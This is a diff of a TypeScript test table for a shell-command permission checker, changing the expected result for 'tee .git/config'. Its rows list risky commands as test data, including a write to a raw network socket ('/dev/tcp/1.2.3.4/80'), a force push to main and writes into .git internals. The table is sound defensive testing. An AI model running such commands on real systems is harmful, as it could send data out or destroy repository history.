@@ -284,7 +284,7 @@ const tables: Readonly<Record<string, readonly Row[]>> = {
     ['auto', 'echo x > src/HEAD', 'ask repositoryInternals once'],
     ['auto', 'echo x > /dev/tcp/1.2.3.4/80', 'ask outside [edit(/dev/tcp/1.2.3.4/80)]'],
     ['auto', 'rm src/a.ts', 'ask command once'],
-    ['auto', 'tee .git/config', 'ask command once'],
+    ['auto', 'tee .git/config', 'ask command repositoryInternals once'],
   ],
   'Denied whatever is allowed': [
     ['ask', 'git push --force origin main', 'denied by run(git push --force *)'],
